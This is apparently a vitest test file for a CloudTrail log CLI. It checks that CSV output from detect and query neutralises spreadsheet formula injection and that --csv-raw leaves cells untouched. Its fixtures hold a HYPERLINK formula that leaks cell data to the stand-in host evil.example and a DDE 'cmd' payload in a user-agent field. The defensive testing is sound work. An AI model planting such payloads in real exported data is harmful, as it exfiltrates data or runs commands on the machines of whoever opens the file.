/**
 * `--format csv` from detect and query: text cells a spreadsheet would run
 * as formulas are neutralised, numbers are not, and --csv-raw writes every
 * cell as it is.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../cli/main.js';
import { TEST_BASES } from '../../query/test-records.js';
import { tempDir } from '../helpers/dataset.js';
import { captureIo } from '../helpers/io.js';

const KEY = '=HYPERLINK("http://evil.example/?leak="&A1,"report")';
const AGENT = "-2+3+cmd|' /C calc'!A0";

let tmp: { dir: string; cleanup: () => void };
let data: string;

async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = captureIo();
  const code = await main(args, io);
  return { code, out: io.out(), err: io.err() };
}

/** The CSV's records, as the strings a CSV reader gets. */
const records = (text: string): string[][] => parse(text) as string[][];

beforeAll(async () => {
  tmp = tempDir();
  data = join(tmp.dir, 'data');
  const logs = join(tmp.dir, 'logs');
  mkdirSync(logs);
  const event = TEST_BASES['s3-data-event'];
  const root = { ...event, userIdentity: { ...event.userIdentity, type: 'Root', arn: 'arn:aws:iam::111122223333:root' }, userAgent: AGENT, requestParameters: { ...event.requestParameters, key: KEY } };
  writeFileSync(join(logs, 'trail.json'), JSON.stringify({ Records: [root] }));
  expect((await run(['ingest', logs, '--data', data])).code).toBe(0);
});
afterAll(() => tmp.cleanup());

describe('detect --format csv', () => {
  it("puts a ' before a finding's text that would run as a formula, and leaves source_line a number", async () => {
    const r = await run(['detect', '--data', data, '--format', 'csv', '--only', 'root-account-activity']);
    const [header, row] = records(r.out) as [string[], string[]];
    const at = (name: string): string | undefined => row[header.indexOf(name)];
    expect([at('key'), at('source_line')]).toEqual([`'${KEY}`, '1']);
    expect(r.out).toContain(`"'=HYPERLINK(`);
  });

  it('writes the key exactly with --csv-raw', async () => {
    const r = await run(['detect', '--data', data, '--format', 'csv', '--csv-raw', '--only', 'root-account-activity']);
    const [header, row] = records(r.out) as [string[], string[]];
    expect(row[header.indexOf('key')]).toBe(KEY);
  });

  it('refuses --csv-raw without --format csv', async () => {
    const r = await run(['detect', '--data', data, '--csv-raw']);
    expect([r.code, r.err.split('\n')[0]]).toEqual([2, 'error: --csv-raw goes with --format csv (got --format table)']);
  });
});

describe('query --format csv', () => {
  const sql = 'SELECT key, user_agent, source_line, -5 AS negative, \'-5\' AS negative_text FROM cloudtrail';

  it('neutralises text cells only', async () => {
    const r = await run(['query', '--data', data, '--format', 'csv', sql]);
    expect(records(r.out)).toEqual([['key', 'user_agent', 'source_line', 'negative', 'negative_text'], [`'${KEY}`, `'${AGENT}`, '1', '-5', '-5']]);
  });

  it('writes every cell as it is with --csv-raw', async () => {
    const r = await run(['query', '--data', data, '--format', 'csv', '--csv-raw', sql]);
    expect(records(r.out)[1]).toEqual([KEY, AGENT, '1', '-5', '-5']);
  });
});
